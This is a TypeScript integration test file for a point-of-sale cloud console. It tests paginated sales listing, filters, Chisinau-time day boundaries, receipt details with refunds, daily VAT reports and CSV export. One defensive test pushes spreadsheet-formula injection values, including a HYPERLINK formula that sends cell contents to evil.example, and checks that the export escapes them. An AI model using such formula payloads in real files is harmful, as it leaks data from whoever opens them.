// The console's sales over real HTTP: documents pushed by terminals through the device API, read
// back by a signed-in console user. Pages walk the keyset cursor and must give, filter by filter,
// exactly the documents the filter selects, newest first; calendar days are Europe/Chisinau's
// (a document at 23:59:59 local belongs to its day, one at 00:00:00 to the next); the receipt
// view carries what the paper printed; a sale shows what its refunds gave back; the daily VAT
// totals add sales, take refunds off and leave refused receipts out; the CSV export streams
// the same selection. Another merchant's documents are never seen.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PushedDocument } from '@fiscal-pos/platform-protocol';
import type { Cloud } from '../src/server.js';
import { seedConsoleUser, signInConsole, type ConsoleBrowser } from './console-harness.js';
import { fiscalDocument } from './documents-fixture.js';
import {
  activeTerminal,
  device,
  DRIVERS,
  openTestDatabase,
  seedMerchant,
  startTestCloud,
  type ActiveTerminal,
  type TestDatabase,
} from './harness.js';

const PAYMENTS = ['1', '2'] as const;

/** A sale or refund of `amount` bani at VAT B 20 %, paid as given, at `at`. */
function receipt(at: string, amount: number, overrides: Partial<PushedDocument> = {}): PushedDocument {
  return fiscalDocument([{ productId: null, quantityMilli: 1000, unitPrice: amount }], {
    createdAt: at,
    ...overrides,
  });
}

describe.each(DRIVERS)('console sales on %s', (driver) => {
  let database: TestDatabase;
  let cloud: Cloud;
  let viewer: ConsoleBrowser;
  let till1: ActiveTerminal;
  let till2: ActiveTerminal;
  let tillOfB: ActiveTerminal;
  /** Every document pushed for merchant A, with its terminal. */
  const pushed: { doc: PushedDocument; terminalId: string }[] = [];
  const sale = receipt('2026-11-23T10:00:00.000Z', 3000, {
    payments: [{ code: '1', amount: 3000 }],
    receiptNumber: 17,
    reportNumber: 4,
    fiscalCode: 'MEV-ABC-17',
    registrationNumber: 'J403001234',
    verificationUrl: 'https://mev.sfs.md/receipt-verifier/J403001234/30.00/17/2026-11-23',
    change: 200,
    lines: [
      {
        position: 0,
        productId: null,
        name: 'Pâine',
        quantityMilli: 2000,
        unitPrice: 1000,
        amount: 2000,
        vatCode: 'B',
      },
      {
        position: 1,
        productId: null,
        name: 'Lapte',
        quantityMilli: 1000,
        unitPrice: 1000,
        amount: 1000,
        vatCode: 'B',
      },
    ],
  });
  const refundOf = (at: string, status: PushedDocument['status'], amount: number) =>
    receipt(at, amount, {
      type: 'refund',
      saleId: sale.saleId,
      refundId: randomUUID(),
      status,
      lines: [
        {
          position: 0,
          productId: null,
          name: 'Pâine',
          quantityMilli: 1000,
          unitPrice: 1000,
          amount,
          vatCode: 'B',
        },
      ],
    });
  const refund = refundOf('2026-11-24T08:00:00.000Z', 'synced', 1000);
  const refusedRefund = refundOf('2026-11-24T08:30:00.000Z', 'failed', 1000);

  const push = async (terminal: ActiveTerminal, documents: PushedDocument[]) => {
    const res = await device(cloud, terminal, 'POST', '/documents', { documents });
    expect(res.status, res.text).toBe(200);
  };

  beforeAll(async () => {
    database = await openTestDatabase(driver);
    cloud = await startTestCloud(database);
    const a = await seedMerchant(database, { name: 'Magazinul Ana' });
    const b = await seedMerchant(database, { name: 'Other shop' });
    till1 = await activeTerminal(cloud, a.merchantId, 'Casa 1');
    till2 = await activeTerminal(cloud, a.merchantId, '=Casa 2');
    tillOfB = await activeTerminal(cloud, b.merchantId, 'Casa B');
    const user = await seedConsoleUser(database, { merchantId: a.merchantId, role: 'viewer' });
    viewer = await signInConsole(cloud, user);

    // 24 sales over three local days, both terminals, cash or card, some paid with both.
    const start = Date.parse('2026-11-22T12:00:00.000Z');
    for (let i = 0; i < 24; i++) {
      const at = new Date(start + i * 2.5 * 3_600_000).toISOString();
      const amount = 1000 + i * 10;
      const payments =
        i % 5 === 0
          ? [
              { code: '1' as const, amount: amount - 500 },
              { code: '2' as const, amount: 500 },
            ]
          : [{ code: PAYMENTS[i % 2]!, amount }];
      const terminal = i % 3 === 0 ? till2 : till1;
      const doc = receipt(at, amount, { payments, receiptNumber: i + 1 });
      pushed.push({ doc, terminalId: terminal.terminalId });
      await push(terminal, [doc]);
    }
    const cash = receipt('2026-11-24T09:01:00.000Z', 5000, {
      type: 'cash_in',
      lines: [],
      vat: [],
      saleId: null,
    });
    const zReport = receipt('2026-11-24T20:00:00.000Z', 0, {
      type: 'z_report',
      lines: [],
      vat: [],
      payments: [],
      saleId: null,
      receiptNumber: null,
    });
    for (const doc of [sale, refund, refusedRefund, cash, zReport])
      pushed.push({ doc, terminalId: till1.terminalId });
    await push(till1, [sale, refund, refusedRefund, cash, zReport]);
    await push(tillOfB, [receipt('2026-11-23T11:00:00.000Z', 999_999)]);
  });
  afterAll(async () => {
    await cloud?.close();
    await database?.close();
  });

  /** Every page of the list with `query`, walked by its cursor. */
  async function allPages(query: Record<string, string>, limit = 4) {
    const seen: { id: string; operationId: string; createdAt: string; terminalName: string }[] = [];
    let cursor: string | null = null;
    do {
      const params = new URLSearchParams({ ...query, limit: String(limit), ...(cursor ? { cursor } : {}) });
      const res = await viewer.call('GET', `/sales?${params.toString()}`);
      expect(res.status, res.text).toBe(200);
      const body = res.json();
      expect(body.data.length).toBeLessThanOrEqual(limit);
      seen.push(...body.data);
      cursor = body.nextCursor;
    } while (cursor);
    return seen;
  }

  /** What a filter should select of what was pushed, newest first. */
  function expected(keep: (p: (typeof pushed)[number]) => boolean): string[] {
    return pushed
      .filter(keep)
      .sort((x, y) => Date.parse(y.doc.createdAt) - Date.parse(x.doc.createdAt))
      .map((p) => p.doc.operationId);
  }

  const localDay = (iso: string) => new Date(Date.parse(iso) + 2 * 3_600_000).toISOString().slice(0, 10);

  it('pages through every document, newest first, each once, never another merchant’s', async () => {
    const all = await allPages({});
    expect(all.map((d) => d.operationId)).toEqual(expected(() => true));
    expect(all.find((d) => d.operationId === sale.operationId)?.terminalName).toBe('Casa 1');
  });

  it('filters by terminal, type, payment code and calendar days, alone and together', async () => {
    const cases: [Record<string, string>, (p: (typeof pushed)[number]) => boolean][] = [
      [{ terminalId: till2.terminalId }, (p) => p.terminalId === till2.terminalId],
      [{ type: 'refund' }, (p) => p.doc.type === 'refund'],
      [{ type: 'cash_in' }, (p) => p.doc.type === 'cash_in'],
      [{ payment: '2' }, (p) => p.doc.payments.some((x) => x.code === '2')],
      [{ from: '2026-11-23', to: '2026-11-23' }, (p) => localDay(p.doc.createdAt) === '2026-11-23'],
      [{ from: '2026-11-24' }, (p) => localDay(p.doc.createdAt) >= '2026-11-24'],
      [
        { payment: '1', terminalId: till1.terminalId, to: '2026-11-23' },
        (p) =>
          p.doc.payments.some((x) => x.code === '1') &&
          p.terminalId === till1.terminalId &&
          localDay(p.doc.createdAt) <= '2026-11-23',
      ],
      [
        { type: 'sale', payment: '1', from: '2026-11-23' },
        (p) =>
          p.doc.type === 'sale' &&
          p.doc.payments.some((x) => x.code === '1') &&
          localDay(p.doc.createdAt) >= '2026-11-23',
      ],
    ];
    for (const [query, keep] of cases) {
      const want = expected(keep);
      expect(want.length, JSON.stringify(query)).toBeGreaterThan(0);
      expect(
        (await allPages(query, 3)).map((d) => d.operationId),
        JSON.stringify(query),
      ).toEqual(want);
    }
  });

  it('counts a document at 23:59:59 Chisinau time in its day, and one at midnight in the next', async () => {
    const late = receipt('2026-11-25T21:59:59.000Z', 100);
    const midnight = receipt('2026-11-25T22:00:00.000Z', 100);
    await push(till2, [late, midnight]);
    pushed.push({ doc: late, terminalId: till2.terminalId }, { doc: midnight, terminalId: till2.terminalId });
    const day25 = await allPages({ from: '2026-11-25', to: '2026-11-25' });
    expect(day25.map((d) => d.operationId)).toContain(late.operationId);
    expect(day25.map((d) => d.operationId)).not.toContain(midnight.operationId);
    const day26 = await allPages({ from: '2026-11-26', to: '2026-11-26' });
    expect(day26.map((d) => d.operationId)).toEqual([midnight.operationId]);
  });

  it('refuses bad filters with 400 and the field', async () => {
    for (const query of [
      'from=2026-11-24&to=2026-11-23',
      'payment=99',
      'type=receipt',
      'from=24.11.2026',
      // ISO's year 0, which PostgreSQL's dates do not have (1 BC comes before 0001).
      'from=0000-01-01',
      'to=0000-12-31',
      'cursor=nope',
    ]) {
      const res = await viewer.call('GET', `/sales?${query}`);
      expect(res.status, query).toBe(400);
      expect(res.json().code).toBe('invalid_request');
    }
  });

  const idOf = async (operationId: string) =>
    (await allPages({})).find((d) => d.operationId === operationId)!.id;

  it('shows a sale as its receipt printed it, with what its refunds gave back so far', async () => {
    const res = await viewer.call('GET', `/sales/${await idOf(sale.operationId)}`);
    expect(res.status, res.text).toBe(200);
    const detail = res.json();
    expect(detail.merchant).toEqual({
      name: 'Magazinul Ana',
      idno: '1003600012345',
      address: 'str. Ștefan cel Mare 1, Chișinău',
    });
    expect(detail.terminalName).toBe('Casa 1');
    expect(detail.printedAt).toEqual({ date: '23.11.2026', time: '12:00:00' });
    expect(detail.document).toMatchObject({
      type: 'sale',
      total: 30,
      receiptNumber: 17,
      reportNumber: 4,
      fiscalCode: 'MEV-ABC-17',
      registrationNumber: 'J403001234',
      verificationUrl: sale.verificationUrl,
      change: 2,
      payments: [{ code: '1', amount: 30 }],
      vat: [{ code: 'B', rate: 20, taxableAmount: 25, vatAmount: 5 }],
    });
    expect(
      detail.document.lines.map((l: { name: string; quantity: number }) => [l.name, l.quantity]),
    ).toEqual([
      ['Pâine', 2],
      ['Lapte', 1],
    ]);
    // Both refunds are listed; the refused one gave nothing back.
    expect(detail.refunds.map((r: { status: string }) => r.status)).toEqual(['synced', 'failed']);
    expect(detail.refunded).toEqual({
      total: 10,
      remaining: 20,
      lines: [{ position: 0, quantity: 1, amount: 10 }],
    });
    expect(detail.sale).toBeNull();

    const ofRefund = (await viewer.call('GET', `/sales/${await idOf(refund.operationId)}`)).json();
    expect(ofRefund.sale).toMatchObject({ receiptNumber: 17, total: 30 });
    expect(ofRefund.refunded).toBeNull();
  });

  it('answers 404 for another merchant’s document and for none', async () => {
    const ofB = await database.db.query.fiscalDocuments.findFirst({
      where: (t, { eq }) => eq(t.terminalId, tillOfB.terminalId),
    });
    expect((await viewer.call('GET', `/sales/${ofB!.id}`)).status).toBe(404);
    expect((await viewer.call('GET', '/sales/fdoc_nothing')).status).toBe(404);
  });

  it('adds up VAT per day and code: sales minus refunds, refused receipts left out', async () => {
    const late = receipt('2026-11-23T18:00:00.000Z', 1200, { status: 'synced' });
    await push(till1, [late]);
    // Refused by the tax server after it was pushed: its VAT leaves the day again.
    const refused = { ...late, revision: 2, status: 'failed' as const };
    await push(till1, [refused]);
    pushed.push({ doc: refused, terminalId: till1.terminalId });

    const res = await viewer.call('GET', '/reports/vat-daily?from=2026-11-22&to=2026-11-26');
    expect(res.status, res.text).toBe(200);
    const report = res.json();
    const byDay = new Map<string, { sales: number; refunds: number }>();
    for (const { doc } of pushed) {
      if (doc.status === 'failed' || (doc.type !== 'sale' && doc.type !== 'refund')) continue;
      const day = byDay.get(localDay(doc.createdAt)) ?? { sales: 0, refunds: 0 };
      for (const v of doc.vat) day[doc.type === 'sale' ? 'sales' : 'refunds'] += v.vatAmount;
      byDay.set(localDay(doc.createdAt), day);
    }
    expect(report.timeZones).toEqual(['Europe/Chisinau']);
    expect(report.days.map((d: { day: string }) => d.day)).toEqual([...byDay.keys()].sort());
    for (const day of report.days) {
      const want = byDay.get(day.day)!;
      expect(day.vat).toHaveLength(1);
      expect(day.vat[0]).toMatchObject({ code: 'B', rate: 20 });
      expect(Math.round(day.vat[0].sales.vat * 100), day.day).toBe(want.sales);
      expect(Math.round(day.vat[0].refunds.vat * 100), day.day).toBe(want.refunds);
      expect(Math.round(day.net.vat * 100)).toBe(want.sales - want.refunds);
      expect(day.vat[0].net.gross).toBeCloseTo(day.vat[0].net.taxable + day.vat[0].net.vat, 2);
    }
    const one = (
      await viewer.call(
        'GET',
        `/reports/vat-daily?from=2026-11-22&to=2026-11-26&terminalId=${till2.terminalId}`,
      )
    ).json();
    expect(one.net.vat).toBeLessThan(report.net.vat);
    expect((await viewer.call('GET', '/reports/vat-daily?from=2026-11-26&to=2026-11-22')).status).toBe(400);
    expect((await viewer.call('GET', '/reports/vat-daily?from=2025-01-01&to=2026-11-22')).status).toBe(400);
    expect((await viewer.call('GET', '/reports/vat-daily?from=0000-01-01&to=0000-12-31')).status).toBe(400);
  });

  it('exports the filtered documents as CSV: signed amounts, local dates, formula-safe names', async () => {
    const res = await viewer.call('GET', '/sales/export.csv?from=2026-11-23&to=2026-11-24');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="sales-from-2026-11-23-to-2026-11-24.csv"',
    );
    const [header, ...rows] = res.text.trimEnd().split('\n');
    expect(header).toBe(
      'id,date,time,time_zone,issued_at,terminal,type,status,receipt_number,report_number,mev_code,offline_code,total,vat,payments,sale_id',
    );
    const want = expected((p) => ['2026-11-23', '2026-11-24'].includes(localDay(p.doc.createdAt)));
    expect(rows).toHaveLength(want.length);
    const refundRow = rows.find((r) => r.includes(',refund,synced,'))!;
    expect(refundRow).toContain(',2026-11-24,10:00:00,Europe/Chisinau,');
    expect(refundRow).toContain(',-10.00,-1.67,1=-10.00,');
    expect(rows.find((r) => r.includes('2026-11-23,12:00:00'))).toContain(',30.00,5.00,1=30.00,');
    expect(rows.some((r) => r.includes(",'=Casa 2,"))).toBe(true);
    expect(rows.some((r) => r.includes(',=Casa 2,'))).toBe(false);
  });

  it('keeps the codes a terminal pushed as text in the CSV, never a formula', async () => {
    // The codes and the sale id are any text a terminal sends (a stolen device key sends what it
    // likes): opened in a spreadsheet, one starting with = + - @ would run there.
    const doc = receipt('2026-09-15T08:00:00.000Z', 100, {
      fiscalCode: '=HYPERLINK("https://evil.example/?"&A1,"ok")',
      offlineFiscalCode: '+1+1',
      saleId: '@SUM(1)',
    });
    await push(till1, [doc]);
    const res = await viewer.call('GET', '/sales/export.csv?from=2026-09-15&to=2026-09-15');
    const [row] = res.text.trimEnd().split('\n').slice(1);
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""ok"")",'+1+1,`);
    expect(row!.endsWith(",'@SUM(1)")).toBe(true);
  });

  it('exports more documents than one read page, each once, in order', async () => {
    const many = Array.from({ length: 520 }, (_, i) =>
      receipt(new Date(Date.parse('2026-10-01T08:00:00.000Z') + i * 60_000).toISOString(), 100 + i),
    );
    for (let i = 0; i < many.length; i += 200) await push(till2, many.slice(i, i + 200));
    const res = await viewer.call('GET', '/sales/export.csv?from=2026-10-01&to=2026-10-01');
    const rows = res.text.trimEnd().split('\n').slice(1);
    expect(rows).toHaveLength(520);
    const totals = rows.map((r) => r.split(',')[12]);
    expect(totals[0]).toBe('6.19');
    expect(totals.at(-1)).toBe('1.00');
  });
});
